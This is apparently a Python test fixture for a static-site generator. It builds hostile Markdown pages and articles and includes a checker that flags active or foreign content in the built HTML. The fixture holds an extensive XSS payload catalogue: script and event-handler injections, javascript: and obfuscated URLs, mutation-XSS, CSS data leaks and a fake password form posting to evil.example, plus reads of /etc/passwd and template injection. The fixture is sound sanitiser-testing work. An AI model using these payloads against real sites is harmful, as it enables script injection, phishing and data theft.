"""Pages and articles that try to act: what is put where, and what a built site may hold of it.

`PAYLOADS` and `PLACES` make the pages, `ARTICLES` the articles. `live` reads a built page with a parser that none of
the program uses (lexbor) and names everything that acts, or comes from elsewhere.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urljoin, urlsplit

from selectolax.lexbor import LexborHTMLParser, LexborNode

RUN = "window.pwned=1"  # what a payload does, if anything runs
AWAY = "evil.example"

# What a contributor writes, by what it tries.
PAYLOADS: dict[str, str] = {
    # elements
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script from away": f'<script src="https://{AWAY}/a.js"></script>',
    "module": f'<script type="module">{RUN}</script>',
    "script with a blank": f"<script >{RUN}</script >",
    "half a script": f"<script>{RUN}//",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image that fails": f'<img src="x" onerror="{RUN}">',
    "image without quotes": f"<img src=x onerror={RUN}>",
    "image with slashes": f"<img/src=x/onerror={RUN}>",
    "image with tabs": f"<img\tsrc=x\tonerror={RUN}>",
    "image in backquotes": f"<img src=x onerror=\\`{RUN}\\`>",
    "tracking image": f'<img src="https://{AWAY}/t.gif" width="1" height="1">',
    "tracking image without scheme": f"<img src=//{AWAY}/t.gif>",
    "image with a srcset": f'<img src="../assets/screenshot.png" srcset="https://{AWAY}/t.gif 2x">',
    "image over everything": '<img src="../assets/screenshot.png" style="position:fixed;inset:0;width:100vw;height:100vh">',
    "svg": f'<svg onload="{RUN}"></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg with a link": f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    "svg that animates": f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></svg>',
    "svg that sets": f'<svg><set attributeName="onmouseover" to="{RUN}"></svg>',
    "svg with foreign content": f'<svg><foreignObject><iframe src="https://{AWAY}/"></iframe></foreignObject></svg>',
    "svg that uses": f'<svg><use href="https://{AWAY}/a.svg#x"></use></svg>',
    "math": f"<math><mtext><script>{RUN}</script></mtext></math>",
    "math with a link": f'<math href="javascript:{RUN}">x</math>',
    "math that mutates": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "frame": f'<iframe src="https://{AWAY}/"></iframe>',
    "frame with its own page": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
    "frame that runs": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "object": f'<object data="https://{AWAY}/a.swf"></object>',
    "embed": f'<embed src="https://{AWAY}/a.swf">',
    "base": f'<base href="https://{AWAY}/">',
    "refresh": f'<meta http-equiv="refresh" content="0; url=https://{AWAY}/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "link to a style": f'<link rel="stylesheet" href="https://{AWAY}/a.css">',
    "prefetch": f'<link rel="dns-prefetch" href="//{AWAY}">',
    "style": "<style>.md-content{display:none}</style>",
    "style that leaks": f"<style>input[value^=a]{{background:url(https://{AWAY}/a)}}</style>",
    "style that imports": f"<style>@import 'https://{AWAY}/a.css';</style>",
    "form": f'<form action="https://{AWAY}/"><input name="password"><button>Sign in</button></form>',
    "button that runs": f'<button onclick="{RUN}">Read on</button>',
    "input that runs": f'<input autofocus onfocus="{RUN}">',
    "details that run": f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>',
    "video": f'<video src="x" onerror="{RUN}"></video>',
    "audio": f'<audio src="x" onerror="{RUN}"></audio>',
    "source": f'<video><source onerror="{RUN}"></video>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "template": f"<template><script>{RUN}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "textarea": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "title element": f'<title><img title="</title><img src=x onerror={RUN}>"></title>',
    "plaintext": "<plaintext>",
    "xmp": f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "select": f"<select><option><img src=x onerror={RUN}></option></select>",
    "portal": f'<portal src="https://{AWAY}/"></portal>',
    "unknown element": f'<x-y onclick="{RUN}">x</x-y>',
    "processing instruction": f"<?php echo 1 ?><img src=x onerror={RUN}>",
    "character data": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "comment that ends early": f"<!-- a --!><img src=x onerror={RUN}> -->",
    "comment that is no comment": f"<!--><img src=x onerror={RUN}>-->",
    "suppression that ends early": f"<!-- explainery: allow EXP103 because --!><img src=x onerror={RUN}> -->",
    "conditional comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "end of the article": "x</article></div></main>y",
    "end of a division": "x</div></div></div>y",
    "division that stays open": "<div>x",
    "dialog": "<dialog open>Sign in again</dialog>",
    "popover": '<div popover id="p">x</div>',
    # attributes of elements that may stand
    "style attribute": '<b style="position:fixed;inset:0;background:red">x</b>',
    "hidden": "<b hidden>not</b>",
    "class of the theme": '<b class="md-overlay">x</b>',
    "id of the theme": '<b id="__config">{"base":".","features":[],"search":"https://evil.example/w.js"}</b>',
    "handler": f'<b onmouseover="{RUN}">x</b>',
    "handler in capitals": f'<b OnMouseOver="{RUN}">x</b>',
    "editable": "<b contenteditable>x</b>",
    "access key": f'<a href="../" accesskey="x" onclick="{RUN}">x</a>',
    "link with a ping": f'<a href="../" ping="https://{AWAY}/">x</a>',
    "link to a window": '<a href="../" target="opener">x</a>',
    "download": '<a href="../" download="invoice.exe">x</a>',
    "title with markup": f'<abbr title="<img src=x onerror={RUN}>">x</abbr>',
    "direction": "<bdo dir=rtl>0091</bdo>",
    "footnote of one's own": '<ul><li id="fn:x">Nobody says this.</li></ul>',
    "attribute list, handler": f'[x](../){{ onmouseover="{RUN}" }}',
    "attribute list, style": '[x](../){ style="position:fixed;inset:0" }',
    "attribute list, class": "[not](../){ .headerlink }",
    "attribute list, class of the theme": "*x*{ .md-overlay }",
    "attribute list, hidden": "*not*{ hidden=hidden }",
    "attribute list, id of the theme": "*x*{ #__config }",
    "attribute list, target": f'[x](../){{ target="_top" ping="https://{AWAY}/" }}',
    "attribute list, source": f'![x](../assets/screenshot.png){{ srcset="https://{AWAY}/t.gif 2x" }}',
    "attribute list, colon": f'*x*{{: onclick="{RUN}" }}',
    # addresses
    "javascript": f"[x](javascript:{RUN})",
    "javascript in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript in entities": f"[x](&#106;avascript&colon;{RUN})",
    "javascript in hexadecimal": f"[x](&#x6A;avascript:{RUN})",
    "javascript with a tab": f'<a href="java&Tab;script:{RUN}">x</a>',
    "javascript with a line feed": f'<a href="java&NewLine;script:{RUN}">x</a>',
    "javascript after a blank": f'<a href=" javascript:{RUN}">x</a>',
    "javascript after a control character": f'<a href="&#1;javascript:{RUN}">x</a>',
    "javascript in angle brackets": f"[x](<javascript:{RUN}>)",
    "javascript, automatic": f"<javascript:{RUN}>",
    "javascript, image": f"![x](javascript:{RUN})",
    "vbscript": "[x](vbscript:MsgBox(1))",
    "data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data, image": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "file": "[x](file:///etc/passwd)",
    "file, image": "![x](file:///etc/passwd)",
    "blob": "[x](blob:https://evil.example/1)",
    "without a scheme": f"[x](//{AWAY}/)",
    "backslashes": f'<a href="\\\\{AWAY}\\">x</a>',
    "slash and backslash": f'<a href="/\\{AWAY}/">x</a>',
    "one slash": f'<a href="https:/{AWAY}/">x</a>',
    "no slash": f'<a href="https:{AWAY}">x</a>',
    "user": f"[x](https://time.com@{AWAY}/)",
    "user and password": f"[x](https://a:b@{AWAY}/)",
    "image from away": f"![x](https://{AWAY}/t.gif)",
    "image without a scheme": f"![x](//{AWAY}/t.gif)",
    "image with a title": f'![x](https://{AWAY}/t.gif "x")',
    "title of a link": f"[x](../ '<img src=x onerror={RUN}>')",
    "mail with more": f"[x](mailto:a@{AWAY}?subject=x&body=y)",
    "telephone": "[x](tel:+1900)",
    "top of the host": "[x](/other/)",
    # characters
    "override": "18\u202e09",
    "override as an entity": "18&#8238;09",
    "override in hexadecimal": "18&#x202E;09",
    "isolate": "\u2067not\u2069",
    "mark": "a\u200fb",
    "no width": "not\u200bable",
    "joiner": "a\u200db",
    "tags": "a\U000e0041\U000e0042b",
    "control character": "a\x1b[31mb",
    "byte order mark": "a\ufeffb",
    "line separator": "a\u2028b",
}  # fmt: skip

# Where on a page it stands. In code nothing acts, so that no finding is due there.
PLACES: dict[str, str] = {
    "paragraph": "Before it.\n\nWords before {} words behind.\n\nBehind it.\n",
    "alone": "Before it.\n\n{}\n\nBehind it.\n",
    "item": "- First\n- Second {} with more\n- Third\n",
    "cell": "| Who | What |\n|---|---|\n| One | {} |\n| Two | x |\n",
    "heading": "Before it.\n\n## A heading {} with more\n\nBehind it.\n",
    "note": "A line with a note.[^a]\n\n[^a]: The note {} with more.\n",
    "block quotation": "> Somebody said {} at noon\n\nBehind it.\n",
}
# Some need a form of their own: the whole page, with its front matter.
PAGES: dict[str, str] = {
    "reference": f"---\ntitle: T\ndescription: D\n---\n# T\n\n[x][y]\n\n[y]: javascript:{RUN}\n",
    "reference, image": f"---\ntitle: T\ndescription: D\n---\n# T\n\n![x][y]\n\n[y]: https://{AWAY}/t.gif\n",
    "reference in entities": f"---\ntitle: T\ndescription: D\n---\n# T\n\n[x]\n\n[x]: <java&#115;cript:{RUN}>\n",
    "heading with an id": '---\ntitle: T\ndescription: D\n---\n# T\n\n## {"search":"x"} { #__config }\n\nText.\n',
    "heading that is an id": "---\ntitle: T\ndescription: D\n---\n# T\n\n## __config\n\nText.\n",
    "heading with a handler": f'---\ntitle: T\ndescription: D\n---\n# T {{ onclick="{RUN}" }}\n\nText.\n',
    "paragraph with a handler": f'---\ntitle: T\ndescription: D\n---\n# T\n\nText.\n{{: onclick="{RUN}" }}\n',
    "paragraph of a class": "---\ntitle: T\ndescription: D\n---\n# T\n\nText.\n{: .md-dialog }\n",
    "admonition with markup": f'---\ntitle: T\ndescription: D\n---\n# T\n\n!!! note "<img src=x onerror={RUN}>"\n    Text.\n',
    "admonition of a class": '---\ntitle: T\ndescription: D\n---\n# T\n\n!!! md-overlay ex-unseen "x"\n    Text.\n',
    "title with markup": f"---\ntitle: \"<img src=x onerror='{RUN}'>\"\ndescription: D\n---\nText.\n",
    "title that ends": f'---\ntitle: "</title><script>{RUN}</script>"\ndescription: D\n---\nText.\n',
    "description that ends": f"---\ntitle: T\ndescription: '\"><script>{RUN}</script>'\n---\n# T\n",
    "label with markup": f'---\ntitle: T\ndescription: D\nlabel: "<img src=x onerror={RUN}>"\n---\n# T\n',
    "title with an override": '---\ntitle: "T\\u202eU"\ndescription: D\n---\n# T\n',
    "template": f'---\ntitle: T\ndescription: D\ntemplate: redirect.html\nlocation: "https://{AWAY}/"\n---\n# T\n',
    "template of the shell": f"---\ntitle: T\ndescription: '\"><script>{RUN}</script>'\ntemplate: base.html\n---\n# T\n",
    "template in capitals": "---\ntitle: T\ndescription: D\nTemplate: redirect.html\n---\n# T\n",
    "bare fields": f'title: T\ntemplate: redirect.html\nlocation: https://{AWAY}/");{RUN}//\n\n# T\n',
    "bare field behind a blank": "  template: redirect.html\n\n# T\n",
    "fields that end in dots": "---\ntitle: T\ndescription: D\n...\n\n# T\n",
    "merged fields": "---\ntitle: T\ndescription: D\n<<: {template: redirect.html}\n---\n# T\n",
    "hidden parts": "---\ntitle: T\ndescription: D\nhide: [navigation, toc]\n---\n# T\n",
    "out of the search": "---\ntitle: T\ndescription: D\nsearch: {exclude: true}\n---\n# T\n",
    "icon": "---\ntitle: T\ndescription: D\nicon: material/alert\n---\n# T\n",
    "status": "---\ntitle: T\ndescription: D\nstatus: new\n---\n# T\n",
    "canonical": f"---\ntitle: T\ndescription: D\ncanonical_url: https://{AWAY}/\n---\n# T\n",
    "tags": "---\ntitle: T\ndescription: D\ntags: [<b>x</b>]\n---\n# T\n",
}
HEAD = "---\ntitle: A page of its own\ndescription: What a stranger sends.\n---\n# A page of its own\n\n"
# Where what would be said is said by a title or a note's mark, a payload with brackets or bars breaks the form itself.
_UNFIT = {"cell": re.compile(r"\||\n"), "heading": re.compile(r"\}\s*$"), "block quotation": re.compile(r"\n")}


@dataclass(frozen=True, slots=True)
class HostilePage:
    """A page: its name, its text and the line on which the payload stands (0 for anywhere)."""

    name: str
    text: str
    line: int


def hostile_pages() -> Iterator[HostilePage]:
    """Each payload in its own place and one other, in turn through all places, and the pages of their own."""
    places = list(PLACES)
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        for place in ("alone", places[(2 + number) % len(places)]):
            text = HEAD + PLACES[place].replace("{}", payload)
            yield HostilePage(f"{name}, {place}", text, text[: text.index(payload)].count("\n") + 1)
    for name, text in PAGES.items():
        yield HostilePage(name, text, 0)


# What a stranger's article says of itself, and in its text.
WORDS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "image": f"<img src=x onerror={RUN}>",
    "quotes": f'"><script>{RUN}</script>',
    "single quotes": f"' onmouseover='{RUN}",
    "link": f"[x](javascript:{RUN})",
    "image from away": f"![x](https://{AWAY}/t.gif)",
    "attribute list": f'x {{ onmouseover="{RUN}" }}',
    "attribute list, colon": f'x {{: onclick="{RUN}" }}',
    "automatic link": f"<https://{AWAY}/>",
    "bare address": f"https://{AWAY}/a?b=c",
    "bare host": f"www.{AWAY}/x",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "template expression": "{{ config.site_name }} {% include '/etc/passwd' %}",
    "include": '--8<-- "/etc/passwd"',
    "note": "[^time-1234] and [^x]: y",
    "reference": f"[x]: https://{AWAY}/",
    "code": "`<b>` and ``` and ~~~",
    "rule": "---",
    "heading": "# Not a heading",
    "override": "18\u202e09 \u2067and\u2069",
    "no width": "not\u200bable \ufeff",
    "tags": "a\U000e0041\U000e0042b",
    "terminal": "a\x1b[31mred\x07",
    "comment": f"<!-- x --!><img src=x onerror={RUN}>",
    "cells": "| a | b |",
    "admonition": "!!! note",
    "emphasis": "**x** _y_ ~~z~~ ==w==",
    "backslashes": "\\<script\\> \\`x\\`",
    "file": "file:///etc/passwd",
}
FIELDS = ("title", "publisher", "author", "url", "body", "quotation", "caption")
_BODY = """\
The ministry of Norland{number} signed a deal on Friday {body} to sell grain to the port of Arlen.
Norland{number} wants the deal because the port needs grain for the winter {body} and has no other seller.
“The grain {quotation} will feed the whole port this winter,” said Omar Said{number}, the minister for grain.
The port has long bought most of its grain abroad and has paid for it in crowns for decades.
"""


def hostile_article(number: int, field: str, words: str) -> tuple[str, str]:
    """The name and the text of an article in one of whose fields the words stand."""
    values = dict.fromkeys(FIELDS, "")
    values[field] = words
    body = _BODY.format(number=number, body=values["body"], quotation=values["quotation"])
    if field == "caption":
        figure = f'<figure><img src="x.jpg" alt="{_escaped(words)}"><figcaption>{words}</figcaption></figure>'
        paragraphs = "".join(f"<p>{line}</p>" for line in body.splitlines())
        head = f'<title>Grain deal {number}</title><meta name="author" content="{_escaped(words)}">'
        return (
            f"a{number}.html",
            f"<!doctype html><html><head>{head}</head><body><article><h1>Grain deal {number}</h1>{figure}{paragraphs * 2}</article></body></html>",
        )
    address = f"https://{AWAY}/{words}" if field == "url" else f"https://{AWAY}/{number}"
    lines = {
        "title": f"Grain deal {number} {values['title']}",
        "publisher": f"The Herald {number} {values['publisher']}",
        "author": f"A. Writer {values['author']}",
        "published": f"2026-01-{1 + number % 28:02}",
        "url": re.sub(r"[\s<>\"]", "%20", address),
        "rights": "open",
    }
    front = "\n".join(f"{name}: {_yaml(value)}" for name, value in lines.items())
    return f"a{number}.md", f"---\n{front}\n---\n{body}"


def _escaped(words: str) -> str:
    return words.replace("&", "&amp;").replace('"', "&quot;")


def _yaml(value: str) -> str:
    """A text as YAML has it in quotation marks: as JSON, but that YAML has no halves of characters."""
    return json.dumps(value, ensure_ascii=False)


def hostile_articles() -> Iterator[tuple[str, str]]:
    """Every word in every field: 210 articles."""
    pairs = [(field, words) for words in WORDS.values() for field in FIELDS]
    for number, (field, words) in enumerate(pairs):
        yield hostile_article(number, field, words)


_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "math", "portal", "template", "audio", "video", "dialog", "marquee", "bdo", "plaintext"}  # fmt: skip
_ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "poster",
    "data",
    "background",
    "ping",
    "xlink:href",
    "cite",
    "longdesc",
)
_FORMS = {("class", "ex-search__form"), ("data-md-component", "palette"), ("class", "ex-find"), ("class", "ex-filter")}
_SCRIPTS = re.compile(r"(?:\.\./|\./|/)*(?:[\w-]+/)*assets/(?:javascripts/[\w.-]+|explainery)\.js")
_METAS = {"content-security-policy"}
_UNSEEN = re.compile(
    "[\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e007f\x00-\x08\x0b-\x1f\x7f-\x9f]"
)
_OWN = {"github.com", "explainery.github.io"}


def live(html: str, address: str) -> list[str]:
    """What acts in a built page, or comes from elsewhere; `address`: the page's own."""
    tree = LexborHTMLParser(html)
    nodes = [node for node in tree.css("*") if node.tag]
    return [problem for node in nodes for problem in _problems(node, address)] + _texts(tree)


def _problems(node: LexborNode, address: str) -> Iterator[str]:
    tag, attributes = str(node.tag).lower(), {k.lower(): v or "" for k, v in node.attributes.items()}
    if tag in _ELEMENTS and (tag, attributes.get("class")) != ("dialog", "ex-search"):
        yield f"<{tag}>"
    if tag == "script" and not _is_of_the_theme(attributes):
        yield f"a script: {node.html}"
    if tag == "form" and not any(attributes.get(name) == value for name, value in _FORMS):
        yield f"a form: {attributes}"
    if tag == "meta" and attributes.get("http-equiv", "content-security-policy").lower() not in _METAS:
        yield f"a meta element: {attributes}"
    for name, value in attributes.items():
        if name.startswith("on") or name in {"style", "srcdoc", "contenteditable", "popover", "ping"}:
            yield f"{name}={value!r} of <{tag}>"
        elif name in _ADDRESSES:
            yield from (f"{name}={value!r} of <{tag}>" for bad in [_is_foreign(node, tag, value, address)] if bad)


def _is_of_the_theme(attributes: dict[str, str]) -> bool:
    if "src" in attributes:
        return bool(_SCRIPTS.fullmatch(attributes["src"]))
    data = {"type": "application/ld+json"}  # no browser runs it, and its text cannot end it
    return attributes in (*({"id": name, "type": "application/json"} for name in ("__config", "ex-words")), data)


def _is_foreign(node: LexborNode, tag: str, value: str, address: str) -> bool:
    """Whether an address leads elsewhere, and neither to the code host nor, in a citation, to an article."""
    parts = urlsplit(urljoin(address, re.sub(r"[\t\r\n]", "", value).strip("\x00 ").replace("\\", "/")))
    if parts.scheme not in {"http", "https", "mailto"}:
        return True
    if parts.netloc == urlsplit(address).netloc or (parts.hostname in _OWN and tag in {"a", "link"}):
        return False
    return tag != "a" or not _is_citation(node, address)


def _is_citation(node: LexborNode, address: str) -> bool:
    if address.endswith("/sources/"):
        return True
    while node.parent is not None:
        node = node.parent
        if node.tag == "li" and (node.attributes.get("id") or "").startswith(("fn:", "source-")):
            return True
    return False


def _texts(tree: LexborHTMLParser) -> list[str]:
    text = tree.body.text() if tree.body else ""
    unseen = [f"U+{ord(m[0]):04X}" for m in _UNSEEN.finditer(text)]
    return [*unseen, *(["a file of the machine"] if "root:x:0" in (tree.html or "") else [])]


def written(folder: Path, pages: list[HostilePage]) -> dict[str, HostilePage]:
    """Write pages, a hundred to a folder; returns them by their paths below the folder."""
    paths = {}
    for number, page in enumerate(pages):
        path = f"strange-{number // 100}/p{number:03}.md"
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(page.text, "utf-8", newline="")
        paths[path] = page
    return paths
